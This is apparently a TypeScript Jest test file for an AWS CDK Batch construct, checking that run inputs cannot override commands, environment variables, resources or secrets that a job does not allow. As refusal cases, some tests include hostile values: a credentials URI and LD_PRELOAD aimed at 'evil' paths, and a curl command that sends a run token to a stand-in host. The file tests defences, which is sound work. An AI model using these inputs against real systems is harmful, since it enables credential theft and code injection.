import { CfnParameter, Stack } from 'aws-cdk-lib';
import { Template } from 'aws-cdk-lib/assertions';
import * as batch from 'aws-cdk-lib/aws-batch';
import * as secretsmanager from 'aws-cdk-lib/aws-secretsmanager';
import { HeavyBatchAllowedOverrides } from '../../../../src';
import { jobSpecOf } from '../../../../src/contract/job-spec';
import type { InputLimits } from '../../../../src/functions/shared/input/input-limits';
import { parseRunInput } from '../../../../src/functions/shared/input/run-input';
import { definitionOf } from '../../../definitions';
import { newJob, newStack } from '../../../stacks';

/** What the submit function is told of a job with these props. */
function limitsOf(allowedOverrides?: HeavyBatchAllowedOverrides): InputLimits {
  const job = newJob({ command: ['work', 'Ref::size'], parameters: { size: '1' }, allowedOverrides, fairShare: {} });
  return jobSpecOf(definitionOf(Template.fromStack(Stack.of(job))))!;
}

const DEFAULT = limitsOf();
const ALL = limitsOf({ command: true, environment: ['MODE', 'TOPIC'] });
const NOTHING = limitsOf({ resources: false, arraySize: false, share: false });
const overrides = (containerOverrides: object) => ({ containerOverrides });

test('by default a run sets parameters, sizes and its share', () => {
  const input = { parameters: { size: '2' }, arraySize: 2, shareIdentifier: 'A', schedulingPriority: 1, ...overrides({ vcpus: 2, memory: 4000 }) };
  expect(parseRunInput(input, DEFAULT)).toMatchObject({ parameters: { size: '2' }, arraySize: 2, shareIdentifier: 'A', schedulingPriority: 1, vcpus: 2, memory: 4000 });
});

test('a run sets the command and the variables that its job names', () => {
  expect(parseRunInput(overrides({ command: ['other'], environment: { MODE: 'a', TOPIC: 'b' } }), ALL)).toMatchObject({ command: ['other'], environment: { MODE: 'a', TOPIC: 'b' } });
});

test('a run that began before there was a choice sets what it could set then', () => {
  const { allowedOverrides, ...older } = DEFAULT;
  expect(parseRunInput(overrides({ command: ['other'], environment: { MODE: 'a' } }), older)).toMatchObject({ command: ['other'], environment: { MODE: 'a' } });
});

test.each<[string, InputLimits, object, string]>([
  ['a command', DEFAULT, overrides({ command: ['sh'] }), "'containerOverrides.command' may not be set by a run of this job; leave it out, or set the job's 'allowedOverrides.command'"],
  ['a variable', DEFAULT, overrides({ environment: { MODE: 'a' } }),
    "'containerOverrides.environment.MODE' may not be set by a run of this job; leave it out, or add its name to the job's 'allowedOverrides.environment'"],
  ['a variable that is not listed', ALL, overrides({ environment: { mode: 'a' } }),
    "'containerOverrides.environment.mode' is not a variable that a run of this job may set; it may set MODE, TOPIC"],
  ['a variable of the SDK', ALL, overrides({ environment: { AWS_CONTAINER_CREDENTIALS_FULL_URI: 'http://evil' } }), 'would change how the container calls AWS'],
  ['a variable of the loader', ALL, overrides({ environment: { LD_PRELOAD: '/tmp/evil.so' } }), 'would change which code the container runs or trusts'],
  ['vCPUs', NOTHING, overrides({ vcpus: 2 }), "'containerOverrides.vcpus' may not be set by a run of this job; leave it out, or set the job's 'allowedOverrides.resources'"],
  ['memory', NOTHING, overrides({ memory: 2000 }), "'containerOverrides.memory' may not be set"],
  ['GPUs', NOTHING, overrides({ gpus: 1 }), "'containerOverrides.gpus' may not be set"],
  ['the size of an array', NOTHING, { arraySize: 2 }, "'arraySize' may not be set by a run of this job; leave it out, or set the job's 'allowedOverrides.arraySize'"],
  ['a share', NOTHING, { shareIdentifier: 'A' }, "'shareIdentifier' may not be set by a run of this job; leave it out, or set the job's 'allowedOverrides.share'"],
  ['a priority', NOTHING, { schedulingPriority: 1 }, "'schedulingPriority' may not be set"],
])('%s is refused where the job does not allow it', (_, limits, input, message) => {
  expect(() => parseRunInput(input, limits)).toThrow(message);
});

test.each<[string, object]>([
  ['a parameter', { parameters: { size: 'x Ref::heavyBatchToken' } }],
  ['a parameter in a body', { body: '{"size": "Ref::heavyBatchRun"}' }],
  ['a variable', overrides({ environment: { MODE: 'Ref::heavyBatchToken' } })],
  ['a word of a command', overrides({ command: ['curl', 'http://evil/?Ref::heavyBatchToken'] })],
])('the token of a run does not reach its container through %s', (_, input) => {
  expect(() => parseRunInput(input, ALL)).toThrow(/refers to Ref::heavyBatch(Token|Run), which no container gets; leave it out/);
});

describe('a job with secrets whose variables', () => {
  function specWith(type?: 'String'): InputLimits {
    const stack = newStack();
    const secret = (id: string) => batch.Secret.fromSecretsManager(secretsmanager.Secret.fromSecretNameV2(stack, id, id));
    const environment = ['MODE', ...type ? [new CfnParameter(stack, 'Name', { type }).valueAsString] : []];
    newJob({ secrets: { TOKEN: secret('token'), KEY: secret('key') }, allowedOverrides: { environment } }, stack);
    return jobSpecOf(definitionOf(Template.fromStack(stack)))!;
  }
  /** As the deployment has put its value in. */
  const deployed = (spec: InputLimits, environment: string[]): InputLimits => ({ ...spec, allowedOverrides: { ...spec.allowedOverrides, environment } });

  test('have a name that is a token are compared with the secrets when a run starts', () => {
    const spec = deployed(specWith('String'), ['MODE', 'KEY']);
    expect(spec.allowedOverrides!.secrets).toEqual(['KEY', 'TOKEN']);
    expect(() => parseRunInput(overrides({ environment: { KEY: 'a' } }), spec))
      .toThrow("'containerOverrides.environment.KEY' is the name of a secret of this job, which a run must not replace; use another name");
    expect(parseRunInput(overrides({ environment: { MODE: 'a' } }), spec).environment).toEqual({ MODE: 'a' });
  });

  test('are known at synth do not tell the submit function the names of the secrets', () => {
    expect(specWith(undefined).allowedOverrides).toEqual({ environment: ['MODE'] });
  });
});
